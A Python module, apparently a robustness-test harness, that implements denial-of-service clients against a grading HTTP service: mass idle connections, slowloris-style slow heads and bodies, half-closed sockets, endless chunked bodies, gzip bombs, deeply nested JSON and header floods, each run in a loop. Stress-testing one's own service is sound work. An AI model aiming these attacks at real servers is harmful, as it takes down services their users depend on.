"""Clients that mean a server harm, each a block for the length of which it does."""

from __future__ import annotations

import contextlib
import gzip
import resource
import socket
import threading
import time
from collections.abc import Callable, Iterator, Sequence
from contextlib import AbstractContextManager, contextmanager
from typing import Final, NamedTuple, TypeAlias

__all__ = [
    "ATTACKS",
    "Attack",
    "Target",
    "connections",
    "half_closed",
    "idle",
    "slow_bodies",
    "slow_heads",
]

_DRIP_S: Final = 0.25
_LONGEST_S: Final = 30.0


class Target(NamedTuple):
    """The service under attack, and what lets a client in."""

    host: str
    port: int
    authorization: str

    def head(self, *lines: str) -> bytes:
        """The head of a request for grading."""
        usual = ("POST /v1/grade HTTP/1.1", "Host: x", f"Authorization: {self.authorization}")
        return "".join(f"{line}\r\n" for line in (*usual, *lines, "")).encode()


Attack: TypeAlias = Callable[[Target], AbstractContextManager[object]]


@contextmanager
def connections(target: Target, count: int) -> Iterator[list[socket.socket]]:
    """So many connections, or as many as this process may open."""
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    with contextlib.ExitStack() as stack:
        opened = []
        for _ in range(min(count, most - 256)):
            one = socket.create_connection((target.host, target.port), timeout=_LONGEST_S)
            opened.append(stack.enter_context(one))
        yield opened


def idle(target: Target, *, count: int = 10_000) -> AbstractContextManager[list[socket.socket]]:
    """Connections on which nothing is ever sent."""
    return connections(target, count)


def slow_heads(target: Target, *, count: int = 500) -> AbstractContextManager[list[socket.socket]]:
    """Requests whose head comes byte by byte."""
    return _dripping(target, b"POST /v1/grade HTTP/1.1\r\nHost: x\r\nX-Slow: ", count)


def slow_bodies(target: Target, *, count: int = 500) -> AbstractContextManager[list[socket.socket]]:
    """Requests whose body comes byte by byte, from a client that may send one."""
    return _dripping(target, target.head("Content-Length: 100000"), count)


@contextmanager
def half_closed(target: Target, *, count: int = 500) -> Iterator[list[socket.socket]]:
    """Connections whose client has said all it ever will, which is half a request."""
    with connections(target, count) as opened:
        for one in opened:
            one.sendall(target.head("Content-Length: 1000"))
            one.shutdown(socket.SHUT_WR)
        yield opened


@contextmanager
def _dripping(target: Target, start: bytes, count: int) -> Iterator[list[socket.socket]]:
    with connections(target, count) as opened:
        for one in opened:
            one.sendall(start)
        with _again_and_again(lambda: _drip(opened)):
            yield opened


def _drip(opened: Sequence[socket.socket]) -> None:
    for one in opened:
        with contextlib.suppress(OSError):
            one.send(b"x", socket.MSG_DONTWAIT | socket.MSG_NOSIGNAL)
    time.sleep(_DRIP_S)


@contextmanager
def _again_and_again(step: Callable[[], None]) -> Iterator[None]:
    stop = threading.Event()

    def run() -> None:
        while not stop.is_set():
            step()

    thread = threading.Thread(target=run, daemon=True)
    thread.start()
    try:
        yield
    finally:
        stop.set()
        thread.join()


def _posted(body: bytes, *lines: str) -> Attack:
    """The same request again and again, each on a connection of its own."""

    def attack(target: Target) -> AbstractContextManager[object]:
        message = target.head(f"Content-Length: {len(body)}", *lines) + body
        return _again_and_again(lambda: _sent(target, message))

    return attack


def _endless_chunks(target: Target) -> AbstractContextManager[object]:
    head = target.head("Transfer-Encoding: chunked")
    chunk = b"10000\r\n" + b" " * 2**16 + b"\r\n"
    return _again_and_again(lambda: _sent(target, head, chunk))


def _sent(target: Target, message: bytes, more: bytes = b"") -> None:
    """Send the message, and more for as long as it is taken; then hear the answer."""
    with (
        contextlib.suppress(OSError),
        socket.create_connection((target.host, target.port), timeout=_LONGEST_S) as one,
    ):
        one.sendall(message)
        while more:
            one.settimeout(1.0)
            one.sendall(more)
        one.recv(2**16)


ATTACKS: Final[dict[str, Attack]] = {
    "10,000 idle connections": idle,
    "500 heads, a byte at a time": slow_heads,
    "500 bodies, a byte at a time": slow_bodies,
    "500 half-closed connections": half_closed,
    "chunks without end": _endless_chunks,
    "gzip bombs": _posted(gzip.compress(b"0" * 2**26), "Content-Encoding: gzip"),
    "100,000 nested lists": _posted(b'{"items":' + b"[" * 100_000),
    "an item nested 900 deep": _posted(b'{"items":[{"x":' + b"[" * 900 + b"]" * 900 + b"}]}"),
    "heads without end": _posted(b"", *(f"X-{n}: {'x' * 1_000}" for n in range(100))),
    "no request at all": lambda target: _again_and_again(lambda: _sent(target, b"\0" * 4_096)),
}
